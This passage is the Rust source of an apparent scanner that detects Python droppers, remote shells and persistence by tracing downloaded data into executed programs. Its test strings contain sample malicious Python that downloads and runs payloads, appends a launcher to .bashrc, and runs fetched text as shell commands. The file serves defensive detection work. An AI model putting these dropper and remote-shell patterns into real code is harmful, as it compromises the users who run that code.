//! What does one Python scope run of what it got? Fetch, write and run in one function is
//! a dropper's shape, but honest code has it too: an updater downloads a release and
//! starts an unrelated helper script, an installer downloads an archive and runs `tar` on
//! it. What tells a dropper apart is the data flow: the bytes that came from the network
//! are written to a path, and that path is the program that starts (or the script an
//! interpreter is told to run). The same following finds a response run as a command line
//! (a remote shell), and a file the scope wrote and then started (a dropper when it runs
//! at install time).
//!
//! The analysis follows names through one scope's statements in order, without a parser:
//! a name bound to a response (`r = requests.get(u)`) or derived from one
//! (`data = r.content`) carries the download; a path is written with it
//! (`with open(p, 'wb') as f: f.write(data)`, `urlretrieve(u, p)`); a command whose
//! program is that path (`subprocess.run([p])`, `os.startfile(p)`,
//! `os.system(f"start {p}")`) runs it. Names it cannot follow make it answer no, so it
//! confirms droppers rather than finds them.

use crate::pyblocks::LineInfo;
use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;
use syntax::{
    base_name, call_args, is_name, matching_close, mentions_name, prefix, split_top_level,
    statements, string_literals, unquote,
};

mod syntax;

/// Where a scope runs something it got (1-based lines).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScopeRun {
    pub run_line: u32,
    pub ran: Ran,
}

/// What ran.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ran {
    /// A download, from the file it was written to (`path` as written: `file_path`,
    /// `'update.exe'`).
    Download {
        path: String,
        fetched_line: u32,
        written_line: u32,
    },
    /// A response itself, as a command line: a remote shell.
    Command { fetched_line: u32 },
    /// A file the scope wrote from its own content (a script kept in a string) and then
    /// started: what matters is where the scope runs, at install time a dropper.
    WrittenScript { path: String, written_line: u32 },
}

impl Ran {
    /// Whether what ran came from the network.
    pub fn downloaded(&self) -> bool {
        !matches!(self, Ran::WrittenScript { .. })
    }
}

/// A network call whose result is the downloaded content or a response holding it.
static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\b(?:urlopen|(?:requests|httpx|urllib3|session|sess)\.(?:get|post|request|stream)|PoolManager\(\)\.request)\s*\(",
    )
    .expect("valid regex")
});
/// Calls that fetch a URL straight into a file named by their second argument.
static RETRIEVE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:urlretrieve|wget\.download|download_file)\s*\(").expect("valid regex")
});
static OPEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:io\.)?open\s*\(").expect("valid regex"));
static WITH_AS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bas\s+(\w+)\s*[:,)]").expect("valid regex"));
static ASSIGN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(\w+)\s*(?::[^=]+)?=\s*([^=].*)$").expect("valid regex"));
static FOR_IN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:async\s+)?for\s+\(?(\w+(?:\s*,\s*\w+)*)\)?\s+in\s+(.+):").expect("valid regex")
});
/// `out.append(b ^ k)`, `buf += chunk`: the collection holds what is added to it.
static ACCUMULATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(\w+)(?:\.(?:append|extend|write)\s*\((.*)\)|\s*\+=\s*(.*))$")
        .expect("valid regex")
});
static DEF_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\s*(?:async\s+)?def\s+(\w+)").expect("valid regex"));
static HANDLE_WRITE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(\w+)\.write\s*\(").expect("valid regex"));
static WRITE_BYTES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\bPath\s*\(\s*([^()]+?)\s*\)|\b(\w+))\.write_bytes\s*\(").expect("valid regex")
});
static COPY_TO: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bshutil\.copyfileobj\s*\(").expect("valid regex"));
/// Files whose content the system runs at login or on a schedule.
static STARTUP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)bashrc|bash_profile|zshrc|\.profile\b|crontab|autostart|startup|launchagents")
        .expect("valid regex")
});
/// Calls that start a program named by their first argument.
static RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:\bsubprocess\.(?:run|Popen|call|check_call|check_output|getoutput|getstatusoutput)|\bos\.(?:system|popen|startfile|exec\w*|spawn\w*|posix_spawn)|(?:^|[^.\w])(?:Popen|startfile|system|popen))\s*\(",
    )
    .expect("valid regex")
});

/// Programs that run the file they are given: a downloaded script handed to one of them
/// runs as surely as a downloaded executable started by name.
const LAUNCHERS: &[&str] = &[
    "bash",
    "sh",
    "zsh",
    "dash",
    "python",
    "python3",
    "pythonw",
    "py",
    "node",
    "perl",
    "ruby",
    "powershell",
    "pwsh",
    "cmd",
    "start",
    "wscript",
    "cscript",
    "mshta",
    "msiexec",
    "rundll32",
    "regsvr32",
    "open",
    "xdg-open",
    "sudo",
    "nohup",
    "exec",
    "sys.executable",
];

/// Work one file may cost the check, in bytes of statement read times names followed:
/// beyond it the remaining statements are not followed.
const WORK_BUDGET: usize = 256 << 20;
/// Calls of one kind read per statement.
const MAX_CALLS: usize = 16;

/// The gravest place in each of `scopes` (a function's `def` line, or `None` for
/// module-level code) where the scope runs what it downloaded, runs a response as a
/// command, or starts a file it wrote: a download run before a written script.
pub fn find_runs(
    data: &[u8],
    lines: &[LineInfo],
    scopes: &BTreeSet<Option<u32>>,
    facts: &FileFacts,
) -> Vec<(Option<u32>, ScopeRun)> {
    let mut budget = WORK_BUDGET;
    statements(data, lines, scopes)
        .into_iter()
        .filter_map(|(scope, statements)| {
            follow(&statements, facts, &mut budget).map(|run| (scope, run))
        })
        .collect()
}

/// What one scope's statements have shown so far. Each map holds at most `MAX_NAMES`
/// entries; a new one replaces the oldest, so padding cannot hide a later dropper.
#[derive(Default)]
struct Tracker {
    /// Names bound to a response or its body itself (`r`, `text = r.text`): run as a
    /// command, they are a remote shell.
    responses: BTreeMap<String, u32>,
    /// Names holding anything derived from a download (`v = r.json()['version']`), with
    /// the line of the download.
    derived: BTreeMap<String, u32>,
    /// File handles open for writing, with the line opened and the path.
    handles: BTreeMap<String, (u32, String)>,
    /// Paths holding downloaded bytes, with the line written and the line fetched.
    download_paths: BTreeMap<String, (u32, u32)>,
    /// Every path opened for writing, with the line.
    written_paths: BTreeMap<String, (u32, u32)>,
}

impl Tracker {
    fn names(&self) -> usize {
        self.responses.len() + self.derived.len() + self.download_paths.len()
    }
}

fn follow(statements: &[(u32, String)], facts: &FileFacts, budget: &mut usize) -> Option<ScopeRun> {
    let mut t = Tracker::default();
    let mut script: Option<ScopeRun> = None;
    for (line, text) in statements {
        let (line, text) = (*line, text.trim());
        let cost = text.len().saturating_mul(1 + t.names());
        if cost > *budget {
            break;
        }
        *budget -= cost;
        let is_fetch =
            |expr: &str| FETCH.is_match(expr) || facts.fetchers.iter().any(|f| called(expr, f));
        let fetch_here = is_fetch(text);
        let carries = |expr: &str, t: &Tracker| -> Option<u32> {
            if fetch_here && is_fetch(expr) {
                return Some(line);
            }
            t.derived
                .iter()
                .chain(&t.responses)
                .find(|(name, _)| mentions_name(expr, name))
                .map(|(_, &at)| at)
        };
        if let Some((path, (written_line, fetched_line))) =
            runs_one_of(text, &t.download_paths, facts)
        {
            return Some(ScopeRun {
                run_line: line,
                ran: Ran::Download {
                    path,
                    fetched_line,
                    written_line,
                },
            });
        }
        if let Some(fetched_line) = runs_received_command(text, &t.responses, facts) {
            return Some(ScopeRun {
                run_line: line,
                ran: Ran::Command { fetched_line },
            });
        }
        if script.is_none()
            && let Some((path, (written_line, _))) = runs_one_of(text, &t.written_paths, facts)
        {
            // Keep reading: a harmless script started first must not hide a download
            // run after it.
            script = Some(ScopeRun {
                run_line: line,
                ran: Ran::WrittenScript { path, written_line },
            });
        }
        for m in RETRIEVE.find_iter(text).take(MAX_CALLS) {
            let args = call_args(text, m.end() - 1);
            if let Some(path) = args.get(1) {
                remember(&mut t.download_paths, path, (line, line), |v| v.0);
            }
        }
        // `with open(p, 'wb') as f:`, `d = open(p, 'wb')` and `open(p, 'wb').write(data)`.
        for m in OPEN.find_iter(text).take(MAX_CALLS) {
            let args = call_args(text, m.end() - 1);
            let (Some(path), mode) = (args.first(), args.get(1)) else {
                continue;
            };
            if !mode.is_some_and(|m| is_write_mode(m)) {
                continue;
            }
            remember(&mut t.written_paths, path, (line, line), |v| v.0);
            let rest = &text[m.end()..];
            if let Some(handle) = text
                .starts_with("with ")
                .then(|| WITH_AS.captures(rest))
                .flatten()
            {
                remember(&mut t.handles, &handle[1], (line, path.to_string()), |v| {
                    v.0
                });
            }
            if let Some(c) = ASSIGN.captures(text)
                && c.get(2).is_some_and(|v| v.start() == m.start())
            {
                remember(&mut t.handles, &c[1], (line, path.to_string()), |v| v.0);
            }
            if let Some(w) = rest.find(".write(") {
                let arg = call_args(rest, w + ".write".len()).concat();
                if let Some(at) = carries(&arg, &t) {
                    remember(&mut t.download_paths, path, (line, at), |v| v.0);
                }
            }
        }
        for c in HANDLE_WRITE.captures_iter(text).take(MAX_CALLS) {
            let (Some((_, path)), Some(m)) = (t.handles.get(&c[1]).cloned(), c.get(0)) else {
                continue;
            };
            let arg = call_args(text, m.end() - 1).concat();
            // Naming the download in a shell start-up file or a startup folder starts it
            // at the next login.
            if STARTUP.is_match(&path)
                && let Some((written_path, &(written_line, fetched_line))) = t
                    .download_paths
                    .iter()
                    .find(|(p, _)| mentions(&arg, p, facts))
            {
                return Some(ScopeRun {
                    run_line: line,
                    ran: Ran::Download {
                        path: written_path.clone(),
                        fetched_line,
                        written_line,
                    },
                });
            }
            if let Some(at) = carries(&arg, &t) {
                remember(&mut t.download_paths, &path, (line, at), |v| v.0);
            }
        }
        for m in COPY_TO.find_iter(text).take(MAX_CALLS) {
            let args = call_args(text, m.end() - 1);
            if let (Some(source), Some(target)) = (args.first(), args.get(1))
                && let Some(at) = carries(source, &t)
                && let Some((_, path)) = t.handles.get(*target).cloned()
            {
                remember(&mut t.download_paths, &path, (line, at), |v| v.0);
            }
        }
        for c in WRITE_BYTES.captures_iter(text).take(MAX_CALLS) {
            let (Some(whole), Some(path)) = (c.get(0), c.get(1).or(c.get(2))) else {
                continue;
            };
            let arg = call_args(text, whole.end() - 1).concat();
            if let Some(at) = carries(&arg, &t) {
                remember(&mut t.download_paths, path.as_str(), (line, at), |v| v.0);
            }
        }
        let binding = ASSIGN
            .captures(text)
            .or_else(|| FOR_IN.captures(text))
            .or_else(|| ACCUMULATE.captures(text))
            .map(|c| {
                let value = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
                (c[1].to_string(), value.to_string())
            })
            .or_else(|| {
                // `with urlopen(u) as r:` binds a response.
                let c = text
                    .starts_with("with ")
                    .then(|| WITH_AS.captures(text))
                    .flatten()?;
                Some((c[1].to_string(), text.to_string()))
            });
        if let Some((names, value)) = binding {
            // The response itself, or its body: `r = get(u)`, `text = r.text`.
            let response = if fetch_here && is_fetch(&value) && is_call_chain(&value) {
                Some(line)
            } else {
                t.responses
                    .iter()
                    .find(|(name, _)| is_value_of(&value, name))
                    .map(|(_, &at)| at)
            };
            if let (Some(at), true) = (response, is_name(&names)) {
                remember(&mut t.responses, &names, at, |v| *v);
            } else if let Some(at) = carries(&value, &t) {
                for name in names.split(',') {
                    remember(&mut t.derived, name.trim(), at, |v| *v);
                }
            }
            // `cmd = f'"{p}" /S'` or `exe = p`: the name now stands for running the file.
            if is_name(&names)
                && let Some((_, &at)) = t
                    .download_paths
                    .iter()
                    .find(|(path, _)| command_program_is(&value, path, facts))
            {
                remember(&mut t.download_paths, &names, at, |v| v.0);
            }
        }
    }
    script
}

/// Entries kept per map: a generated file binding thousands of responses must not make
/// every later statement compare against all of them.
const MAX_NAMES: usize = 32;

/// Keeps `key`, replacing the oldest entry (by the line `age` reads) when the map is full.
fn remember<V>(map: &mut BTreeMap<String, V>, key: &str, value: V, age: impl Fn(&V) -> u32) {
    let key = key.trim();
    if key.is_empty() {
        return;
    }
    if map.len() >= MAX_NAMES
        && !map.contains_key(key)
        && let Some(oldest) = map
            .iter()
            .min_by_key(|(_, v)| age(v))
            .map(|(k, _)| k.clone())
    {
        map.remove(&oldest);
    }
    map.insert(key.to_string(), value);
}

/// Whether `expr` is one call chain (`requests.get(u).text`), not an expression that
/// merely contains one (`requests.get(u).json()['version'] + 'x'`).
fn is_call_chain(expr: &str) -> bool {
    let expr = expr.trim();
    let head = expr
        .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
        .unwrap_or(expr.len());
    let first = expr
        .find(|c: char| !(c.is_alphanumeric() || c == '_'))
        .unwrap_or(expr.len());
    head > 0 && first > 0 && is_value_of(expr, &expr[..first])
}

/// The line of the download that `text` runs as a command line, directly
/// (`os.system(r.text)`, `subprocess.run(['bash', '-c', cmd])`) or through a function
/// of the file that runs its argument (`runcommand(resp)`).
fn runs_received_command(
    text: &str,
    fetched: &BTreeMap<String, u32>,
    facts: &FileFacts,
) -> Option<u32> {
    if fetched.is_empty() {
        return None;
    }
    let received = |expr: &str| {
        fetched
            .iter()
            .find(|(name, _)| command_is_value_of(expr, name))
            .map(|(_, &at)| at)
    };
    for m in RUN.find_iter(text).take(MAX_CALLS) {
        if let Some(at) = program_argument(text, m.as_str(), m.end() - 1).and_then(received) {
            return Some(at);
        }
    }
    for runner in &facts.runners {
        for open in call_sites(text, runner).take(MAX_CALLS) {
            if let Some(at) = call_args(text, open).into_iter().find_map(received) {
                return Some(at);
            }
        }
    }
    None
}

/// Where `function(` is called in `text`: the offsets of the opening brackets.
fn call_sites<'t>(text: &'t str, function: &'t str) -> impl Iterator<Item = usize> + 't {
    let bytes = text.as_bytes();
    let is_ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    text.match_indices(function).filter_map(move |(start, _)| {
        let end = start + function.len();
        if start > 0 && (is_ident(bytes[start - 1]) || bytes[start - 1] == b'.') {
            return None;
        }
        let spaces = bytes[end..].iter().take_while(|b| **b == b' ').count();
        (bytes.get(end + spaces) == Some(&b'(')).then_some(end + spaces)
    })
}

/// Whether the command `expr` is the value of `name` itself (`resp`, `r.text`,
/// `data.decode()`), alone, first in a list, or after a shell's `-c`.
fn command_is_value_of(expr: &str, name: &str) -> bool {
    let expr = expr.trim();
    if let Some(inner) = expr.strip_prefix('[').or_else(|| expr.strip_prefix('(')) {
        let inner = inner.strip_suffix([']', ')']).unwrap_or(inner);
        let elements = split_top_level(inner);
        return match elements.as_slice() {
            [program, ..] if is_value_of(program, name) => true,
            [shell, flag, code, ..] => {
                SHELLS.contains(&unquote(shell).to_ascii_lowercase().as_str())
                    && ["-c", "/c", "-command"]
                        .contains(&unquote(flag).to_ascii_lowercase().as_str())
                    && is_value_of(code, name)
            }
            _ => false,
        };
    }
    is_value_of(expr, name)
}

/// Shells that run the command line they are given after `-c`.
const SHELLS: &[&str] = &["bash", "sh", "zsh", "cmd", "cmd.exe", "powershell", "pwsh"];

/// Whether `expr` is `name` followed only by attributes and method calls.
fn is_value_of(expr: &str, name: &str) -> bool {
    let Some(mut rest) = expr.trim().strip_prefix(name) else {
        return false;
    };
    if rest.starts_with(|c: char| c.is_alphanumeric() || c == '_') {
        return false;
    }
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return true;
        }
        if let Some(args) = rest.strip_prefix('(') {
            let Some(close) = matching_close(args) else {
                return false;
            };
            rest = &args[close + 1..];
            continue;
        }
        let Some(after_dot) = rest.strip_prefix('.') else {
            return false;
        };
        let attribute = after_dot
            .find(|c: char| !(c.is_alphanumeric() || c == '_'))
            .unwrap_or(after_dot.len());
        if attribute == 0 {
            return false;
        }
        rest = &after_dot[attribute..];
        if let Some(args) = rest.strip_prefix('(') {
            let Some(close) = matching_close(args) else {
                return false;
            };
            rest = &args[close + 1..];
        }
    }
}

/// The path among `paths` that `text` starts as a program, if any.
fn runs_one_of(
    text: &str,
    paths: &BTreeMap<String, (u32, u32)>,
    facts: &FileFacts,
) -> Option<(String, (u32, u32))> {
    if paths.is_empty() {
        return None;
    }
    for m in RUN.find_iter(text).take(MAX_CALLS) {
        let Some(program) = program_argument(text, m.as_str(), m.end() - 1) else {
            continue;
        };
        for (path, &at) in paths {
            if command_program_is(program, path, facts) {
                return Some((path.clone(), at));
            }
        }
    }
    None
}

/// The argument of a process call that names what runs: the first, except for
/// `os.spawn*(mode, path, ...)`.
fn program_argument<'t>(text: &'t str, call: &str, open: usize) -> Option<&'t str> {
    let args = call_args(text, open);
    let index = usize::from(call.contains("spawn") && !call.contains("posix_spawn"));
    args.get(index).copied()
}

/// Whether the command `expr` (an argument list, a shell string or a path) starts
/// `path`, directly or through a launcher (`['bash', p]`, `f"start {p}"`).
fn command_program_is(expr: &str, path: &str, facts: &FileFacts) -> bool {
    let expr = expr.trim();
    let mentions = |e: &str| mentions(e, path, facts);
    if let Some(inner) = expr.strip_prefix('[').or_else(|| expr.strip_prefix('(')) {
        let inner = inner.strip_suffix([']', ')']).unwrap_or(inner);
        let elements = split_top_level(inner);
        let Some(program) = elements.first() else {
            return false;
        };
        return mentions(program)
            || (is_launcher(&unquote(program)) && elements[1..].iter().any(|e| mentions(e)));
    }
    if expr == path || unquote(expr) == unquote(path) {
        return true;
    }
    // `p + ' /S'`
    if is_name(path) && expr.starts_with(path) && expr[path.len()..].trim_start().starts_with('+') {
        return true;
    }
    // A shell string: the program is the first word of one of its commands
    // (`set X=1 | start payload.exe`, `~/.drv &`).
    let body = expr.trim_start_matches(['f', 'r', 'b', 'F', 'R', 'B']);
    let literal = literal_of(path, facts);
    // `os.startfile(os.getcwd() + "\\download.exe")`: a path, not a command line.
    if !string_literals(expr)
        .iter()
        .any(|l| l.contains(char::is_whitespace))
        && literal
            .as_deref()
            .is_some_and(|name| string_literals(expr).iter().any(|l| names_file(l, name)))
    {
        return true;
    }
    for command in body.split(['|', '&', ';']) {
        let command = command.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
        if let Some(rest) = command.strip_prefix('{') {
            if mentions(rest.split('}').next().unwrap_or("")) {
                return true;
            }
            continue;
        }
        let word: String = command
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\''))
            .collect();
        if literal.as_deref().is_some_and(|l| names_file(&word, l))
            || (is_launcher(&word) && mentions(command))
        {
            return true;
        }
    }
    // `"start " + p`: the path is a name outside the string.
    let first_word: String = body
        .trim_start_matches(['"', '\''])
        .chars()
        .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\''))
        .collect();
    is_launcher(&first_word) && mentions(expr)
}

/// Whether the shell word `word` names the file `literal` (`payload.exe`,
/// `./payload.exe`, `~/.drv`).
fn names_file(word: &str, literal: &str) -> bool {
    let word = word.trim_matches(|c: char| matches!(c, '"' | '\'' | '`'));
    !literal.is_empty() && base_name(word) == literal
}

fn is_launcher(word: &str) -> bool {
    let word = word.trim().to_ascii_lowercase();
    let base = word.rsplit(['/', '\\']).next().unwrap_or(&word);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    LAUNCHERS.contains(&base)
}

/// What the rest of a file tells about one scope's names.
#[derive(Debug, Default)]
pub struct FileFacts {
    /// Names bound to a plain string literal anywhere in the file (`LOC = ".drv"`).
    constants: BTreeMap<String, String>,
    /// Functions of the file that make a network request: calling one fetches.
    fetchers: Vec<String>,
    /// Functions of the file that run their argument as a command line.
    runners: Vec<String>,
}

static CONSTANT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?m)^[ \t]*(\w+)[ \t]*=[ \t]*[rRbB]?(?:"([^"\\\n]{1,200})"|'([^'\\\n]{1,200})')[ \t]*(?:#.*)?$"#)
        .expect("valid regex")
});

/// Constants remembered per file.
const MAX_CONSTANTS: usize = 4096;
/// Bytes of a line read for definitions and calls.
const MAX_LINE_BYTES: usize = 4 << 10;

pub fn file_facts(data: &[u8], lines: &[LineInfo]) -> FileFacts {
    let text = String::from_utf8_lossy(data);
    let mut facts = FileFacts::default();
    for c in CONSTANT.captures_iter(&text).take(MAX_CONSTANTS) {
        let value = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
        facts.constants.insert(c[1].to_string(), value.to_string());
    }
    let mut names: BTreeMap<u32, String> = BTreeMap::new();
    let mut parameters: BTreeMap<u32, Vec<String>> = BTreeMap::new();
    let mut fetching: BTreeSet<u32> = BTreeSet::new();
    let mut running: BTreeSet<u32> = BTreeSet::new();
    for (index, (line, info)) in text.lines().zip(lines).enumerate() {
        let line = prefix(line, MAX_LINE_BYTES);
        if let Some(c) = DEF_NAME.captures(line) {
            names.insert(index as u32, c[1].to_string());
            let open = c.get(0).map_or(0, |m| m.end());
            if line[open..].trim_start().starts_with('(') {
                let at = open + (line[open..].len() - line[open..].trim_start().len());
                let params = call_args(line, at)
                    .iter()
                    .map(|p| p.split([':', '=']).next().unwrap_or("").trim().to_string())
                    .filter(|p| is_name(p) && p != "self")
                    .take(MAX_NAMES)
                    .collect();
                parameters.insert(index as u32, params);
            }
        }
        if let Some(f) = info.function
            && info.kind.runs()
            && let Some(params) = parameters.get(&f)
            && RUN.find_iter(line).take(MAX_CALLS).any(|m| {
                program_argument(line, m.as_str(), m.end() - 1)
                    .is_some_and(|a| params.iter().any(|p| command_is_value_of(a, p)))
            })
        {
            running.insert(f);
        }
        if let Some(f) = info.function
            && info.kind.runs()
            && FETCH.is_match(line)
        {
            fetching.insert(f);
        }
    }
    let named = |set: &BTreeSet<u32>| -> Vec<String> {
        set.iter()
            .filter_map(|f| names.get(f).cloned())
            .filter(|name| name.len() > 2)
            .take(MAX_NAMES)
            .collect()
    };
    facts.fetchers = named(&fetching);
    facts.runners = named(&running);
    facts
}

fn called(expr: &str, function: &str) -> bool {
    call_sites(expr, function).next().is_some()
}

/// The file name a path expression stands for (`'C://x//server.exe'`,
/// `d + "\\ComServer.exe"`, `f'{tmp}/payload.exe'`, a constant), when it names one.
fn literal_of(path: &str, facts: &FileFacts) -> Option<String> {
    if is_name(path) {
        return facts.constants.get(path).map(|l| base_name(l).to_string());
    }
    let literals = string_literals(path);
    let last = literals.last()?;
    let last = last.rsplit('}').next().unwrap_or(last);
    let name = base_name(last);
    (name.len() >= 3 && !name.contains(['{', '"', '\''])).then(|| name.to_string())
}

/// Whether `expr` refers to `path`: the same name, the same expression, or the same
/// file name.
fn mentions(expr: &str, path: &str, facts: &FileFacts) -> bool {
    if is_name(path) && mentions_name(expr, path) {
        return true;
    }
    let squeeze = |s: &str| s.chars().filter(|c| !c.is_whitespace()).collect::<String>();
    if !is_name(path) && squeeze(expr).contains(&squeeze(path)) {
        return true;
    }
    literal_of(path, facts).is_some_and(|name| {
        expr.split(|c: char| c.is_whitespace() || "\"'`,+(){}[]".contains(c))
            .any(|word| names_file(word, &name))
    })
}

fn is_write_mode(mode: &str) -> bool {
    let mode = mode
        .trim()
        .trim_start_matches("mode")
        .trim_start()
        .trim_start_matches('=');
    let literal = unquote(mode);
    mode.trim_start().starts_with(['"', '\'']) && literal.contains(['w', 'a', 'x'])
}

/// The scopes of a file: its functions, and the module body.
#[cfg(test)]
fn scopes(lines: &[LineInfo]) -> BTreeSet<Option<u32>> {
    let mut out: BTreeSet<Option<u32>> = lines
        .iter()
        .filter(|l| l.kind.runs())
        .filter_map(|l| l.function.map(Some))
        .collect();
    out.insert(None);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pyblocks::analyse_lines;

    /// The gravest run of any scope of `source`.
    fn flow(source: &str) -> Option<ScopeRun> {
        let lines = analyse_lines(source.as_bytes());
        let facts = file_facts(source.as_bytes(), &lines);
        let runs = find_runs(source.as_bytes(), &lines, &scopes(&lines), &facts);
        let mut runs: Vec<ScopeRun> = runs.into_iter().map(|(_, run)| run).collect();
        runs.sort_by_key(|r| !r.ran.downloaded());
        runs.into_iter().next()
    }

    #[test]
    fn follows_a_response_into_a_file_that_is_started() {
        let source = "import requests, subprocess\n\ndef init(url):\n    response = requests.get(url)\n    path = os.path.join(tmp, name)\n    with open(path, 'wb') as file:\n        file.write(response.content)\n\n    subprocess.run([path])\n";
        let found = flow(source).expect("a dropper");
        assert_eq!(found.run_line, 9);
        assert_eq!(
            found.ran,
            Ran::Download {
                path: "path".to_string(),
                fetched_line: 4,
                written_line: 7
            }
        );
    }

    #[test]
    fn reads_module_level_droppers_and_retrievals_and_launchers() {
        for source in [
            "r = requests.get(U)\nopen('x.exe', 'wb').write(r.content)\nos.startfile('x.exe')\n",
            "urllib.request.urlretrieve(U, p)\nos.system(f'start {p}')\n",
            "urlretrieve(U, p)\nsubprocess.Popen(\n    ['powershell', '-File', p],\n    shell=True)\n",
            "def rn():\n    response = urllib2.urlopen(loc)\n    d = open('.drv', 'wb')\n    d.write(response.read())\n    brc = open(home + '/.bashrc', 'a')\n    brc.write('~/.drv &')\n",
            "def execute():\n    response = requests.get(URL)\n    open(\"payload.exe\", \"wb\").write(response.content)\n    os.system(\"set __COMPACT_LAYER=RunAsInvoker | start payload.exe\")\n",
            "LOC = '.drv'\ndef rn():\n    response = urllib2.urlopen(ADD_LOC).read ()\n    d = open (LOC, 'wb')\n    d.write (response)\n    os.system ('~/.drv &')\n",
            "def close():\n    r = requests.get(url)\n    with open(f'C://AMD//server.exe', 'wb') as f:\n        f.write(r.content)\n    os.startfile('C://AMD//server.exe')\n",
            "def run(self):\n    def dfile(url):\n        return urlopen(Request(url)).read()\n    r = dfile(U)\n    with open(dname+\"\\\\ComServer.exe\",'wb') as f:\n        f.write(r)\n    subprocess.Popen([dname+\"\\\\ComServer.exe\" , \"show\"], cwd=dname)\n",
            "def init():\n    open('download.exe', 'wb').write(requests.get(url).content)\n    os.startfile(os.getcwd()+\"\\\\download.exe\")\n",
            "from os import system\nopen(\"/tmp/node\", \"wb\").write(requests.get(U).content)\nsystem(\"cd /tmp && chmod +x node && ./node\")\n",
            "def r(path):\n    response = requests.get(url)\n    buf = response.content\n    out = []\n    for b, k in zip(buf, key):\n        out.append(b ^ k)\n    with open(binary_path, 'wb') as f:\n        f.write(bytes(out))\n    subprocess.Popen([binary_path])\n",
            "data = urlopen(U).read()\nPath(p).write_bytes(data)\ncmd = f'\"{p}\" /S'\nos.system(cmd)\n",
            "with urlopen(U) as r, open(p, 'wb') as f:\n    shutil.copyfileobj(r, f)\nsubprocess.call([sys.executable, p])\n",
        ] {
            assert!(flow(source).is_some(), "{source}");
        }
    }

    #[test]
    fn text_received_and_run_as_a_command_is_a_remote_shell() {
        // requestsdev's loop: the response is the command, run by a helper of the file.
        let c2 = "def debug():\n    while True:\n        resp = requests.get(link)\n        resp = resp.text\n        \
                  output = runcommand(resp)\n\ndef runcommand(value):\n    return subprocess.run(value, shell=True)\n";
        let found = flow(c2).expect("a remote shell");
        assert_eq!(
            (found.run_line, found.ran),
            (5, Ran::Command { fetched_line: 3 })
        );
        for source in [
            "def f():\n    cmd = urlopen(U).read().decode()\n    os.system(cmd)\n",
            "r = requests.get(U)\nsubprocess.Popen(['bash', '-c', r.text])\n",
        ] {
            assert!(
                matches!(flow(source).map(|f| f.ran), Some(Ran::Command { .. })),
                "{source}"
            );
        }
        // A self-updater puts a fetched version into a command it wrote itself.
        for source in [
            "def up():\n    v = requests.get(U).json()['version']\n    subprocess.run([sys.executable, '-m', 'pip', 'install', f'x=={v}'])\n",
            "def up():\n    v = requests.get(U).text\n    os.system(f'pip install x=={v}')\n",
        ] {
            assert_eq!(flow(source), None, "{source}");
        }
    }

    #[test]
    fn a_file_written_from_the_code_and_started_is_told_apart() {
        // requesys: setup.py writes a script kept in a string and starts it.
        let source = "with open(APPDATA + '/OHR/executor.cmd', 'w+') as executor:\n    \
                      executor.write(EXECUTOR)\nstartfile(APPDATA + '/OHR/executor.cmd')\n";
        assert_eq!(
            flow(source).map(|f| f.ran),
            Some(Ran::WrittenScript {
                path: "APPDATA + '/OHR/executor.cmd'".to_string(),
                written_line: 1
            })
        );
    }

    #[test]
    fn review_cases_hostile_and_honest() {
        // A harmless script started first does not hide the dropper after it.
        let decoy = "def f():\n    open('a.sh', 'w').write('true')\n    os.system('sh a.sh')\n    \
                     r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run([p])\n";
        assert!(matches!(
            flow(decoy).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // A command list built from a fetched version is the updater's own command.
        let updater = "def up():\n    v = requests.get(U).json()['version']\n    \
                       cmd = [sys.executable, '-m', 'pip', 'install', f'x=={v}']\n    subprocess.run(cmd)\n";
        assert_eq!(flow(updater), None);
        // An unbalanced bracket inside a string kept in a variable hides nothing after it.
        let hidden = "def f():\n    doc = \"\"\"run it (see docs\n    more\"\"\"\n    r = requests.get(U)\n    \
                      open(p, 'wb').write(r.content)\n    subprocess.run([p])\n";
        assert!(matches!(
            flow(hidden).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // Thirty-two junk responses before the real one do not blind the tracker.
        let mut padded = String::from("def f():\n");
        for i in 0..40 {
            padded.push_str(&format!("    a{i} = requests.get(U)\n"));
        }
        padded.push_str("    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run([p])\n");
        assert!(matches!(
            flow(&padded).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // os.spawn* names the program second; `fp` is not `p`; an empty path matches nothing.
        let spawn =
            "r = requests.get(U)\nopen(p, 'wb').write(r.content)\nos.spawnv(os.P_NOWAIT, p, [p])\n";
        assert!(matches!(
            flow(spawn).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        let other = "r = requests.get(U)\nopen(p, 'wb').write(r.content)\nsubprocess.run(fp)\n";
        assert_eq!(flow(other), None);
        let broken = "open(, 'w')\nsubprocess.run(['ls'])\n";
        assert_eq!(flow(broken), None);
    }

    #[test]
